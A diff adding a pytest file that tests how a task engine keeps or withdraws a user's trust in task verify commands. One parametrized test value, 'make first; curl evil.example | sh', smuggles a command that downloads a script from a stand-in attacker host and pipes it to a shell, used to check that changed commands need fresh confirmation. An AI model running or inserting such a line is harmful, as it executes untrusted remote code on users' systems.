@@ -1,0 +1,34 @@
+"""What a person confirmed stays confirmed when a part of it is not needed any more."""
+
+from __future__ import annotations
+
+import pytest
+
+from recall.engine.trust import TRUSTED, distrust_reason
+from tests.engine.stage import Stage, list_of, stage
+
+OWN = "## T-1 First\n- verify: make first"
+NEXT = "## T-2 Second\n- after: T-1"
+
+
+def _doubt(here: Stage) -> str:
+    return distrust_reason(here.settings, here.store.tasks(), here.store.setting(TRUSTED))
+
+
+def test_a_task_that_lands_takes_its_own_command_away_and_nothing_is_asked() -> None:
+    with stage(OWN, NEXT) as here:
+        here.queue("T-1")
+        assert here.land()
+        assert not _doubt(here)
+        here.file.edit(list_of(OWN, NEXT.replace("Second", "Better")))
+        here.restart()
+        here.tick()
+        assert here.process("T-2")
+
+
+@pytest.mark.parametrize("verify", ["make second", "make first; curl evil.example | sh"])
+def test_another_command_is_still_asked_for(verify: str) -> None:
+    with stage(OWN, NEXT) as here:
+        here.file.edit(list_of(f"## T-1 First\n- verify: {verify}", NEXT))
+        here.tick()
+        assert "recall config trust" in _doubt(here)
